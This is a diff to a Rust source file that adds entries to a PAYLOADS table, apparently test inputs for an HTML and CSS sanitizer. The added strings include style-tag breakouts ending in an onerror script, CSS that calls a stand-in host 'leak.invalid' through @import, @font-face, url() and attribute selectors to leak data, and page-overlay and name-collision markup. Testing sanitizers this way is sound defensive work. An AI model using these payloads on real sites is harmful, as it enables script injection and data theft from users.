@@ -39,6 +39,26 @@ pub(crate) const PAYLOADS: &[(&str, &str)] = &[
         "<style>@import 'https://leak.invalid/';p{background:url(https://leak.invalid/)}</style>",
     ),
     (
+        "style sheet breaks out",
+        "<style>p{font-family:'</sty\\6ce><img src=https://leak.invalid/>'}.\\3c/style\\3e,p{color:red}/*</style>*/<img src=x onerror=alert(1)>",
+    ),
+    (
+        "style sheet over all",
+        "<style>*,html,body,:root,.part,.part-1{position:fixed;top:0;z-index:9}html{display:none}body~*,.part+.part{color:red}p{color:red}}html{color:red}</style><p>a",
+    ),
+    (
+        "style sheet of foreign kinds",
+        "<svg><style>*{color:red}</style></svg><style>@font-face{src:url(https://leak.invalid/)}@media print{@import 'https://leak.invalid/';p{color:red}}@supports(x:y){*{background:url(https://leak.invalid/)}}</style>",
+    ),
+    (
+        "style sheet that asks",
+        "<style>[href^='https://a']{background:url(https://leak.invalid/)}a:hover{color:red}a::after{content:url(https://leak.invalid/)}p:has(a){--x:url(https://leak.invalid/);color:var(--x)}</style><a href=https://a.example/>a",
+    ),
+    (
+        "names of the frame",
+        "<div class='part part-1 text' id=part><p class='quote m-x' id='m-x'>a</p></div><body class=part id=part-1>",
+    ),
+    (
         "style address",
         "<p style='background:url(https://leak.invalid/)'>a</p><p style='background:u\\72l(https://leak.invalid/)'>b</p>",
     ),
